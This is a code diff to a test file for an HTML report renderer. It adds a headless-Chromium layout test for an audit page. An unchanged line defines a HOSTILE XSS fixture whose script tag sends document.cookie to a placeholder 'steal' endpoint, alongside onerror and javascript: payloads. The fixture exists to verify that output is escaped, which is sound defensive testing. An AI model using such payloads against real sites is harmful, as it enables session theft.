@@ -1,14 +1,16 @@
 // The HTML report (and the badge): self-contained, every repository string escaped, and it really renders
 // in headless Chromium with no console errors and no network request.
-import { readdirSync, statSync } from 'node:fs';
+import { readdirSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { Report } from '../src/report/report.js';
 import { badgeFor, renderBadge } from '../src/reporters/badge.js';
-import { renderHtml } from '../src/reporters/html.js';
+import { main } from '../src/cli.js';
+import { readAuditHistory } from '../src/audit/history.js';
+import { renderAuditHtml, renderHtml } from '../src/reporters/html.js';
 import { REPORTERS } from '../src/reporters/index.js';
 import { chromiumAvailable, CHROMIUM_SKIP_REASON, LAYOUT_PROBE, renderAtWidths, renderInChromium } from './browser.js';
-import { FIXTURES, makeTree, scanDir } from './helpers.js';
+import { FIXTURES, makeTree, scanDir, tempDir } from './helpers.js';
 
 const HOSTILE = `<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script><img src="http://127.0.0.1:9/pixel.png" onerror="alert(1)"><a href="javascript:alert(2)">x</a>"'\`=&lt;`;
 
@@ -134,6 +136,26 @@ describe.skipIf(!chromiumAvailable)(`HTML report in headless Chromium${chromiumA
       expect(facts.outside, `${name} at ${width}: text outside the viewport`).toEqual([]);
       expect(facts.clipped, `${name} at ${width}: SVG text cut off`).toEqual([]);
       expect(facts.scrollWidth, `${name} at ${width}: the page scrolls sideways`).toBeLessThanOrEqual(facts.clientWidth as number);
+    }
+  });
+
+  it('lays out the audit page within the viewport at 1280 and 390 px (the check matrix scrolls in its own box)', async () => {
+    const work = tempDir('mlh-audit-layout-');
+    const names = readdirSync(FIXTURES);
+    const list = `engagements:\n${names.map((name) => `  - name: ${name}\n    target: ${JSON.stringify(path.join(FIXTURES, name))}\n    owner: owner-of-${name}@example.com\n`).join('')}`;
+    writeFileSync(path.join(work, 'engagements.yml'), list);
+    const history = path.join(work, 'history');
+    const code = await main(['audit', path.join(work, 'engagements.yml'), '--history', history, '--format', 'json'], { stdout: () => {}, stderr: () => {} });
+    expect([0, 1]).toContain(code);
+    const { records } = readAuditHistory(history);
+    const record = records.at(-1)!.record;
+    const rendered = await renderAtWidths(renderAuditHtml(record, records.map((stored) => stored.record)), 'audit', LAYOUT_PROBE, WIDTHS);
+    expect(rendered.consoleErrors).toEqual([]);
+    for (const { width, facts } of rendered.widths) {
+      expect(facts.texts as number).toBeGreaterThan(100);
+      expect(facts.outside, `audit at ${width}: text outside the viewport`).toEqual([]);
+      expect(facts.clipped, `audit at ${width}: SVG text cut off`).toEqual([]);
+      expect(facts.scrollWidth, `audit at ${width}: the page scrolls sideways`).toBeLessThanOrEqual(facts.clientWidth as number);
     }
   });
 
